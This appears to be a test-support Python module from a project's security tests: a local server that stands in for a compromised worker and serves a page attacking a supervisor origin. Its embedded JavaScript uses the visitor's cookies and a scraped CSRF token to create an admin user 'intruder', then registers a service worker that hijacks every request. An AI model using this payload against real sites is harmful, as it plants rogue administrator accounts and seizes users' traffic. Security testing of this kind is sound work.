"""A hostile worker stand-in, in a process of its own (``python -m tests.support.hostile --port P``):
what a compromised worker could serve for its app. Every page it serves, at any path, runs the
attack of docs/security.md's threat model against the supervisor whose origin is given in the
query (``?supervisor=http://127.0.0.1:8000``):

1. read the supervisor's "add user" form with the visitor's cookies and post it back with its
   CSRF token, creating the supervisor user ``intruder``;
2. register a service worker (``sw.js``, served with ``Service-Worker-Allowed: /``) for the
   whole origin, scope ``/``.

It writes what happened into ``window.__attack`` and sets the title to ``attack done``.
"""

from __future__ import annotations

import argparse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

INTRUDER = "intruder"

PAGE = """<!doctype html><html><head><title>hostile</title></head><body><p>Nothing to see.</p>
<script>
(async () => {
  const out = {};
  const supervisor = new URLSearchParams(location.search).get("supervisor") || location.origin;
  try {
    const form = await fetch(supervisor + "/admin/auth/user/add/", {credentials: "include"});
    const text = await form.text();
    const token = (text.match(/name="csrfmiddlewaretoken" value="([^"]+)"/) || [])[1] || "";
    out.read_form = token !== "";
    const body = new URLSearchParams({
      csrfmiddlewaretoken: token, username: "INTRUDER_NAME", usable_password: "true",
      password1: "Intrude-r-2026!", password2: "Intrude-r-2026!",
    });
    const made = await fetch(supervisor + "/admin/auth/user/add/", {
      method: "POST", body, credentials: "include", redirect: "manual",
    });
    out.post = made.type === "opaqueredirect" ? "redirected" : made.status;
  } catch (error) {
    out.fetch_error = String(error);
  }
  try {
    const registration = await navigator.serviceWorker.register(new URL("sw.js", location.href), {scope: "/"});
    out.service_worker_scope = registration.scope;
  } catch (error) {
    out.service_worker_error = String(error);
  }
  window.__attack = out;
  document.title = "attack done";
})();
</script></body></html>
""".replace("INTRUDER_NAME", INTRUDER)

SERVICE_WORKER = "self.addEventListener('fetch', (event) => event.respondWith(new Response('owned')));\n"


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args) -> None:
        pass

    def _send(self, body: str, content_type: str, extra: dict[str, str] | None = None) -> None:
        data = body.encode()
        self.send_response(200)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(data)))
        for name, value in (extra or {}).items():
            self.send_header(name, value)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(data)

    def do_GET(self) -> None:
        path = self.path.split("?", 1)[0]
        if path.endswith("/sw.js"):
            # What a worker would send to widen the service worker's reach to the whole origin.
            self._send(SERVICE_WORKER, "text/javascript", {"Service-Worker-Allowed": "/"})
        else:
            self._send(PAGE, "text/html; charset=utf-8")

    do_HEAD = do_GET


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    args = parser.parse_args()
    ThreadingHTTPServer(("127.0.0.1", args.port), _Handler).serve_forever()


if __name__ == "__main__":
    main()
